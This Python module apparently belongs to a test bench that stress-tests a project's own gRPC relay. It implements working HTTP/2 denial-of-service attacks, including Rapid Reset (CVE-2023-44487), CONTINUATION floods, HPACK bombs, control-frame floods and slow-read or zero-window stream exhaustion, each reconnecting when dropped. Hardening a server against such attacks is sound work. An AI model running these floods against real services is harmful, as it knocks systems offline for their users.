"""Attacks over HTTP/2: floods of frames that cost little to send, and streams that never read or never ask.

An attacker with a key follows a game, so that its connection is kept; it comes back when it is ended.
"""

import socket
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Final

from bench.hostile.crowds import crowd
from bench.hostile.sockets import Target
from relay.http2.header_blocks import header_block
from relay.http2.http2_frames import (
    END_HEADERS,
    END_STREAM,
    PREFACE,
    FrameKind,
    SettingId,
    frame,
    ping_frame,
    reset_frame,
    settings_frame,
)

_BLOCK_BYTES: Final = 60_000
_STREAMS: Final = 1000
"""As many as a connection may have."""
_UNREAD: Final = 300
_CONNECTIONS: Final = 20
_PAUSE_S: Final = 0.05
_LATE_S: Final = 0.2
_NO_WINDOW: Final = settings_frame({SettingId.INITIAL_WINDOW_SIZE: 0})
_WINDOW: Final = settings_frame({SettingId.INITIAL_WINDOW_SIZE: 2**31 - 1})
_MESSAGE: Final = b"\x0a\x05crash"
_CALL_BODY: Final = b"\0" + len(_MESSAGE).to_bytes(4, "big") + _MESSAGE


def rapid_reset(target: Target) -> Iterator[int]:
    """CVE-2023-44487: calls with a key that are cancelled as soon as they are sent."""

    def pieces(number: int) -> bytes:
        return headers(target, number, 0) + reset_frame(number, 8)

    return _flood(target, lambda first: b"".join(pieces(first + 2 * each) for each in range(200)), step=400)


def continuation(target: Target) -> Iterator[int]:
    """CVE-2024-27316: a block of headers without an end."""
    begin = frame(FrameKind.HEADERS, END_STREAM, 3, b"\x82")
    return _flood(target, lambda _: begin + frame(FrameKind.CONTINUATION, 0, 3, b"\x00\x01a\x01b" * 20) * 100)


def settings(target: Target) -> Iterator[int]:
    """Windows of all streams that change with each frame."""
    both = _NO_WINDOW + _WINDOW
    return _flood(target, lambda _: both * (_BLOCK_BYTES // len(both)))


def pings(target: Target) -> Iterator[int]:
    return _repeat(target, ping_frame(b"12345678", ack=False))


def pongs(target: Target) -> Iterator[int]:
    return _repeat(target, ping_frame(b"12345678", ack=True))


def window_updates(target: Target) -> Iterator[int]:
    """A byte at a time."""
    return _repeat(target, frame(FrameKind.WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))


def window_overflow(target: Target) -> Iterator[int]:
    """A window that is larger than allowed."""
    return _repeat(target, frame(FrameKind.WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2)


def empty_data(target: Target) -> Iterator[int]:
    return _flood(
        target,
        lambda _: headers(target, 3, 0) + frame(FrameKind.DATA, 0, 3) * (_BLOCK_BYTES // 9),
    )


def priorities(target: Target) -> Iterator[int]:
    return _repeat(target, frame(FrameKind.PRIORITY, 0, 5, bytes(5)))


def hpack_bombs(target: Target) -> Iterator[int]:
    """A few bytes that mean 16 MB of headers."""
    bomb = b"\x40\x01a\x7f\xbd\x1d" + b"v" * 3900 + b"\xbe" * 4000
    return _flood(target, lambda _: frame(FrameKind.HEADERS, END_HEADERS | END_STREAM, 3, bomb))


def silent_streams(target: Target) -> Iterator[int]:
    """Calls without a key and without a message, as many as connections may have."""
    path = b"/grpc.health.v1.Health/Check"
    calls = b"".join(headers(target, 2 * number + 1, 0, path=path) for number in range(_STREAMS))
    return crowd(_CONNECTIONS, lambda _: begin(target, calls))


def slow_prefaces(target: Target) -> Iterator[int]:
    """Connections whose first bytes come one by one."""
    links: list[tuple[socket.socket, int]] = []
    while True:
        while len(links) < _UNREAD:
            links.append((target.connect(port=target.grpc_port), 0))
        left = []
        for link, at in links:
            with suppress(OSError):
                link.send(PREFACE[at : at + 1])
                left.append((link, at + 1))
                yield 1
        links = [(link, at) for link, at in left if at < len(PREFACE)]
        time.sleep(_LATE_S)


def zero_windows(target: Target) -> Iterator[int]:
    """Streams of everything whose clients take nothing."""
    return crowd(_UNREAD, lambda _: begin(target, follow(target), settings=_NO_WINDOW, buffer=4096))


def one_byte_windows(target: Target) -> Iterator[int]:
    """Streams whose clients take a byte at a time."""
    more = frame(FrameKind.WINDOW_UPDATE, 0, 1, b"\0\0\0\1")
    held: dict[int, socket.socket] = {}
    while True:
        for number in range(100):
            with suppress(OSError):
                if number not in held:
                    held[number] = begin(target, follow(target), settings=_NO_WINDOW)
                    held[number].setblocking(False)
                held[number].send(more)
                yield 1
                continue
            held.pop(number, None)
        time.sleep(_PAUSE_S / 10)


# --- how they are sent -----------------------------------------------------------------------------------------------


def headers(target: Target, stream_id: int, flags: int, *, path: bytes = b"/datastream.DataStream/StreamByGame") -> bytes:  # fmt: skip  # noqa: E501
    """Render the headers of a call."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"relay"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        (b"x-api-key", target.key.encode()),
    )
    return frame(FrameKind.HEADERS, END_HEADERS | flags, stream_id, header_block(fields))


def begin(target: Target, calls: bytes, *, settings: bytes = _WINDOW, buffer: int | None = None) -> socket.socket:
    """Open a connection with calls on it."""
    connection = target.connect(port=target.grpc_port, receive_buffer=buffer)
    window = frame(FrameKind.WINDOW_UPDATE, 0, 0, b"\x7f\xff\0\0")
    connection.sendall(PREFACE + settings + window + calls)
    return connection


def follow(target: Target) -> bytes:
    """Render a call that follows the game that is played."""
    return headers(target, 1, 0) + frame(FrameKind.DATA, END_STREAM, 1, _CALL_BODY)


def _repeat(target: Target, repeated: bytes) -> Iterator[int]:
    block = repeated * (_BLOCK_BYTES // len(repeated))
    return _flood(target, lambda _: block)


def _flood(target: Target, piece: Callable[[int], bytes], *, step: int = 0) -> Iterator[int]:
    """Send pieces, each for the next streams, beside a stream of rounds; connect again when the connection ends."""
    while True:
        with suppress(OSError), begin(target, follow(target)) as connection:
            stream_id = 3
            while True:
                connection.sendall(piece(stream_id))
                stream_id += step
                with suppress(BlockingIOError):  # what comes is read, so that a reset is noticed
                    if not connection.recv(1 << 16, socket.MSG_DONTWAIT):
                        break
                yield 1
        yield 0
